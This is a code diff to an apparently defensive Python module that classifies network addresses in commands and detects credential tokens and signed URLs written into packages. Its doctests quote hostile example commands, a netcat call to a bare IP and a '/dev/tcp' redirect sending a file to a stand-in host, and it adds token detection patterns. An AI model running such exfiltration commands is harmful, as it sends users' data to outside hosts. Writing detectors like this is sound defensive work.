@@ -23,7 +23,12 @@ _BARE = re.compile(
     re.I,
 )
 _OTHERS_BOT = re.compile(r"/bot\d{6,}:\w|/webhooks/\d{6,}/\w|/services/T\w{6,}/B\w{6,}/\w")
+_OTHERS_KEY = re.compile(
+    r"(?<![A-Za-z0-9])(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_\w{30,}|glpat-[\w-]{18,}|xox[bp]-\d{4,}-[\w-]{8,}|AKIA(?!IOSFODNN7EXAMPLE)[0-9A-Z]{16}(?![0-9A-Z]))|[?&](?:X-Amz-Signature|X-Goog-Signature)=[0-9a-f]{4,}|[?&]sig=[\w%]{16,}|https?://[^\s/@:'\"]{1,60}:(?=[^\s/@]*\d)[A-Za-z0-9_-]{16,}@"
+)
 """A sender's address written out in a package belongs to its author, not to its user."""
+_DEVICE = re.compile(r"/dev/(?:tcp|udp)/([\w.-]+)/(\d{1,5})")
+_NAMESPACE = re.compile(r"(?:system|microsoft|windows)\.(?:net|io)\b", re.I)
 _FILE_ENDINGS = (".sh", ".zip", ".mov", ".md", ".rs", ".py", ".app", ".pw", ".cc", ".me", ".io")
 """Endings of files that are endings of hosts, too."""
 _HOST = re.compile(r"^(?:[a-z+]+://)?(?:[^/@\s]*@)?(\[[0-9a-f:]+\]|[^/:?#\s]+)(?::\d+)?(/[^?#]*)?", re.I)
@@ -50,13 +55,17 @@ class Place(IntEnum):
     OWN = 3
     PLATFORM = 4
     MESSAGING = 5
-    UNKNOWN = 6
-    SHORTENER = 7
-    TUNNEL = 8
-    PASTE = 9
-    CAPTURE = 10
-    BARE_IP = 11
-    HIDDEN = 12
+    PUBLIC = 6
+    """What is sent there can be read by anybody: an issue, a comment, a gist."""
+    UNKNOWN = 7
+    SHORTENER = 8
+    TUNNEL = 9
+    PASTE = 10
+    CAPTURE = 11
+    BARE_IP = 12
+    AUTHORS = 13
+    """An account of the package's author: its key stands in the package."""
+    HIDDEN = 14
     """An address that had to be decoded before it could be read."""
 
     @property
@@ -96,13 +105,17 @@ def urls_of(text: str) -> list[str]:
 def addresses_of(text: str) -> list[str]:
     """The addresses in a command, those without a scheme too.
 
-    >>> addresses_of("nc 203.0.113.9 4444")
-    ['203.0.113.9']
+    >>> addresses_of("nc 203.0.113.9 4444"), addresses_of("cat notes > /dev/tcp/drop.invalid/80")
+    (['203.0.113.9'], ['drop.invalid:80'])
     """
     urls = urls_of(text)
     rest = URL.sub(" ", text) if urls else text
+    if "/dev/" in rest:
+        rest = _DEVICE.sub(r" \1:\2 ", rest)
     return urls + [
-        found[0] for found in _BARE.finditer(rest) if "/" in found[0] or not found[0].lower().endswith(_FILE_ENDINGS)
+        found[0]
+        for found in _BARE.finditer(rest)
+        if ("/" in found[0] or not found[0].lower().endswith(_FILE_ENDINGS)) and not _NAMESPACE.match(found[0])
     ]
 
 
@@ -120,7 +133,7 @@ def place_of(url: str, *, own_words: Iterable[str] = ()) -> Place:
     """What kind of place an address is.
 
     >>> place_of("http://127.0.0.1:8000"), place_of("http://203.0.113.9/x"), place_of("https://YOUR_HOST/x")
-    (<Place.LOCAL: 0>, <Place.BARE_IP: 11>, <Place.PLACEHOLDER: 1>)
+    (<Place.LOCAL: 0>, <Place.BARE_IP: 12>, <Place.PLACEHOLDER: 1>)
     >>> place_of("https://api.weatherly.example/v1", own_words={"weatherly"})
     <Place.OWN: 3>
     """
@@ -153,6 +166,15 @@ def place_of(url: str, *, own_words: Iterable[str] = ()) -> Place:
     if host.endswith(".onion"):
         return Place.CAPTURE
     return kind if kind is not None else Place.UNKNOWN
+
+
+def holds_others_key(text: str) -> bool:
+    """Whether a text holds a key written out: the account that it opens is its author's, not its user's.
+
+    >>> holds_others_key("https://notes.invalid/up?X-Amz-Signature=6cf1a2"), holds_others_key("https://$USER:$TOKEN@notes.invalid")
+    (True, False)
+    """
+    return _OTHERS_KEY.search(text) is not None
 
 
 def is_registry(host: str) -> bool:
